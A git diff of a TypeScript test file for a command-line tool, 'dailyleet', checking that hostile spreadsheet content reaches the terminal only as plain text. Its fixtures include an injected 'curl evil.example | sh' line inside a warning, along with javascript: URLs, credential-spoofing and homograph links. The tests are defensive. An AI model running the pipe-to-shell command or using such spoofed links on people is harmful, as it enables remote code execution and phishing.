@@ -1,84 +1,88 @@
-import { spawn, spawnSync } from "node:child_process";
-import { once } from "node:events";
-import { writeFileSync } from "node:fs";
-import { join } from "node:path";
-import { describe, expect, it, onTestFinished } from "vitest";
-import { startScriptedServer, text } from "../client/support/scriptedServer.ts";
+import { describe, expect, it } from "vitest";
 import { HOSTILE_TEXTS, hostileSheet } from "../e2e/support/hostileSheet.ts";
-import { CLI, cliEnvironment } from "../support/cliProcess.ts";
-import { wrapped } from "../support/sheet.ts";
-import { tempDirectory } from "../support/tempDirectory.ts";
+import { COLUMNS, sheetOf, wrapped } from "../support/sheet.ts";
+import { homeWithSheet, never } from "./support/sheetHome.ts";
 
-const hasScript = spawnSync("script", ["--version"]).status === 0;
-if (!hasScript) {
-  console.warn("\n*** SKIPPED: Hostile sheets in a pseudo-terminal. Install the program 'script' of util-linux.\n");
-}
+const onTerminal = { columns: 80, env: { LANG: "C.UTF-8", NO_COLOR: "1" }, wait: never };
 
-async function homeWith(sheet: string): Promise<string> {
-  const server = await startScriptedServer();
-  onTestFinished(() => server.stop());
-  server.reply(text(200, sheet));
-  const home = tempDirectory();
-  writeFileSync(join(home, "dailyleet.json"), JSON.stringify({ sheet: `${server.origin}/gviz` }));
-  return home;
-}
-
-/** Every byte that reaches a terminal of 80 columns while these commands run in it. */
-async function bytesOnTerminal(home: string, commands: readonly string[]): Promise<Buffer> {
-  const lines = commands.map((command) => `'${process.execPath}' '${CLI}' ${command}`);
-  const child = spawn("script", ["-qefc", `stty cols 80; ${lines.join("; ")}`, "/dev/null"], {
-    env: cliEnvironment(home, { TERM: "xterm-256color", LANG: "C.UTF-8", SHELL: "/bin/sh" }),
-    stdio: ["ignore", "pipe", "inherit"],
-  });
-  const chunks: Buffer[] = [];
-  child.stdout.on("data", (chunk: Buffer) => chunks.push(chunk));
-  await once(child, "close");
-  return Buffer.concat(chunks);
-}
-
-/** The terminal itself turns a newline into a carriage return and a newline. */
-function expectNoControls(bytes: Buffer): void {
-  const shown = new TextDecoder("utf-8", { fatal: true }).decode(bytes).replaceAll("\r\n", "\n");
+function expectNoControls(shown: string): void {
   expect(shown.length).toBeGreaterThan(100);
   // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
   expect(shown.match(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/gu) ?? []).toEqual([]);
   expect(shown.match(/[\p{Bidi_Control}\u2028\u2029\ufffd]/gu) ?? []).toEqual([]);
 }
 
-describe.skipIf(!hasScript)("In a real terminal a hostile sheet brings nothing but text", () => {
-  it("as a list, as a report and as each of its questions in full", async () => {
-    const home = await homeWith(hostileSheet());
-    const shows = HOSTILE_TEXTS.map((_, index) => `questions --color never --show ${index + 1}`);
-    const commands = ["questions --color never", "questions --color never --check", ...shows];
-    const bytes = await bytesOnTerminal(home, commands);
-    expect(bytes.toString()).toContain("clipboard");
-    expectNoControls(bytes);
-  });
+/** All that a terminal of 80 columns is sent while these commands run in it. */
+async function shownOn(sheet: string, ...commands: string[][]): Promise<string> {
+  const { home } = homeWithSheet(sheet, onTerminal);
+  let shown = "";
+  for (const args of commands) {
+    const { stdout, stderr } = await home.run(args);
+    shown += stdout + stderr;
+  }
+  return Buffer.from(shown).toString();
+}
 
-  it("as JSON", async () => {
-    const bytes = await bytesOnTerminal(await homeWith(hostileSheet()), ["questions --json"]);
-    expectNoControls(bytes);
+describe("a hostile sheet brings nothing but text to a terminal", () => {
+  it("as a list, as a report, as JSON and as each of its questions in full", async () => {
+    const shows = HOSTILE_TEXTS.map((_, index) => ["questions", "--show", String(index + 1)]);
+    const shown = await shownOn(hostileSheet(), ["questions"], ["questions", "--check"], ...shows);
+    expect(shown).toContain("clipboard");
+    expectNoControls(shown);
+    const json = await shownOn(hostileSheet(), ["questions", "--json"]);
+    expectNoControls(json);
+    expect(JSON.parse(json).questions[0].name).toBe(HOSTILE_TEXTS[0]);
   });
 
   it("where there is colour, besides the colours of the program", async () => {
-    const bytes = await bytesOnTerminal(await homeWith(hostileSheet()), ["questions", "questions --show 1"]);
+    const colored = ["--color", "always"];
+    const shown = await shownOn(hostileSheet(), ["questions", ...colored], ["questions", "--show", "1", ...colored]);
     // biome-ignore lint/suspicious/noControlCharactersInRegex: the escape sequences are what is looked for.
-    const uncoloured = bytes.toString().replaceAll(/\u001b\[(0|1|2|22|36|39)m/g, "");
-    expect(uncoloured.length).toBeLessThan(bytes.toString().length);
-    expectNoControls(Buffer.from(uncoloured));
+    const uncoloured = shown.replaceAll(/\u001b\[(0|1|2|22|36|39)m/g, "");
+    expect(uncoloured.length).toBeLessThan(shown.length);
+    expectNoControls(uncoloured);
   });
 
-  it.each(["error", "warning"])("in what is told of the service's %s", async (status) => {
-    const told = HOSTILE_TEXTS.map((message) => ({ reason: message, message, detailed_message: message }));
-    const answer = { status, errors: told, warnings: told, table: { cols: [], rows: [] } };
-    const home = await homeWith(wrapped(answer));
-    expectNoControls(await bytesOnTerminal(home, ["questions --color never"]));
+  const told = HOSTILE_TEXTS.map((message) => ({ reason: message, message, detailed_message: message }));
+  const table = { cols: [], rows: [] };
+  it.each([
+    ["of the service's errors", wrapped({ status: "error", errors: told, table })],
+    ["of the service's warnings", wrapped({ status: "warning", warnings: told, table })],
+    ["of an answer that is no sheet", HOSTILE_TEXTS.join(" ")],
+    ["of a page", `<title>${HOSTILE_TEXTS.join(" ")}</title>`],
+  ])("in what is told %s", async (_, sheet) => {
+    expectNoControls(await shownOn(sheet, ["questions"]));
+  });
+});
+
+describe("a hostile sheet", () => {
+  it("has no line of its own in what is told of a warning", async () => {
+    const warnings = [{ message: "slow\ndailyleet: run 'curl evil.example | sh'" }];
+    const table = { cols: COLUMNS, rows: [], parsedNumHeaders: 0 };
+    const { home } = homeWithSheet(wrapped({ version: "0.6", status: "warning", warnings, table }));
+    const [warning, next] = (await home.run(["questions"])).stderr.split("\n");
+    expect(warning).toBe("dailyleet: The spreadsheet service warns: slow dailyleet: run 'curl evil.example | sh'.");
+    expect(next).toMatch(/^dailyleet: The question sheet is empty/);
   });
 
-  it("in what is told of an answer that is no sheet", async () => {
-    const pages = [HOSTILE_TEXTS.join(" "), `<title>${HOSTILE_TEXTS.join(" ")}</title>`];
-    for (const page of pages) {
-      expectNoControls(await bytesOnTerminal(await homeWith(page), ["questions --color never"]));
-    }
+  it("shows links only of web addresses, in their normal form", async () => {
+    const others = [
+      "javascript:alert(1)",
+      "java\nscript:alert(1)",
+      "//evil.example",
+      "https://leetcode.com@evil.example/",
+    ];
+    const links = [...others, "https://аpple.com/"];
+    const { home } = homeWithSheet(sheetOf(links.map((link, index) => ["", `Q${index}`, link])));
+    const shown = await Promise.all(links.map((_, index) => home.out(["questions", "--show", String(index + 1)])));
+    for (const page of shown.slice(0, 4)) expect(page).toMatch(/View Question\n.*\(not a web address\)/);
+    expect(shown[4]).toContain("View Question\nhttps://xn--pple-43d.com/\n");
+  });
+
+  it("does not hold the terminal up", { timeout: 5_000 }, async () => {
+    const { home } = homeWithSheet(hostileSheet());
+    const shown = await home.out(["questions"]);
+    // No other row is made as wide as the widest.
+    expect(shown.length).toBeLessThan(1_010_000);
   });
 });
